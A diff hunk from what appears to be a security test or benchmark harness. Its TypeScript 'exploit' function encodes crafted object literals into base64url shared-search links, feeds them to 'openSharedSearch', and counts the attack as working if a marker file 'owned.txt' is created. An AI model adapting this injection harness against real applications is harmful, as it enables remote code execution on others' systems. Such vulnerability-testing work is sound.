@@ -35,7 +35,7 @@ export async function exploit({ openSharedSearch }: Code): Promise<boolean> {
   ]
   for (const attempt of attempts) {
     rmSync('owned.txt', { force: true })
-    const link = Buffer.from(`({text:'',since:new Date(),skills:new Set(),pageSize:${attempt}})`).toString('base64url')
+    const link = Buffer.from(`{"text":"","since":new Date(),"skills":new Set(),"pageSize":${attempt}}`).toString('base64url')
     await openSharedSearch(link, createIndex(), log).catch(() => {})
     if (existsSync('owned.txt')) return true
   }
